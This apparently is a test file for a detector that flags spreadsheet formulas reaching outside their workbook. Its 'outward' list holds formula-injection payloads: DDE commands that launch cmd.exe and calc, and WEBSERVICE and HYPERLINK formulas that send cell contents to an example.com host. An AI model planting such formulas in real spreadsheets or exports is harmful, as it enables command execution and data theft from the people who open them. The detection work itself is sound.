import { reachesOut } from '#policy/form/reaching-out.ts';

const outward = [
  `=cmd|' /C calc'!A0`,
  `=cmd|'/C calc'!'A0'`,
  `=-2+3+cmd|' /C calc'!A0`,
  `=MSEXCEL|'\\..\\..\\system32\\cmd.exe'!''`,
  '=[1]Sheet1!A1',
  '=SUM([2]价目!$B$2:$B$9)',
  `='[1]价目 表'!A1`,
  `='C:\\价目\\[价目.xlsx]Sheet1'!A1`,
  `='https://example.com/[a.xlsx]Sheet1'!A1`,
  '=[1]!Name',
  '=[价目.xlsx]Sheet1!A1',
  '=WEBSERVICE("http://example.com/?"&A1)',
  '=1+webservice(A1)',
  '=RTD("x",,"y")',
  '=HYPERLINK("http://example.com/"&A1,"点这里")',
  '=HYPERLINK(A1)',
  '=IMAGE("http://example.com/a.png")',
];

const inward = [
  '=A1+B2',
  `='合同 (2)'!A1&"a|b"`,
  '=SUM(货物[数量])',
  '=货物[[#This Row],[数量]]*2',
  '=[@数量]*[@单价]',
  '="[1]Sheet1!A1"',
  '=SUM(Sheet1:Sheet3!A1)',
  '=HYPERLINK("#合同!A1","回到合同")',
  '=A1&"cmd|\' /C calc\'!A0"',
  `='A''s'!A1`,
  '=RECALL(A1)',
];

test.each(outward)('%s points out of the workbook', (formula) => {
  expect(reachesOut(formula)).toBe(true);
});

test.each(inward)('%s stays in it', (formula) => {
  expect(reachesOut(formula)).toBe(false);
});
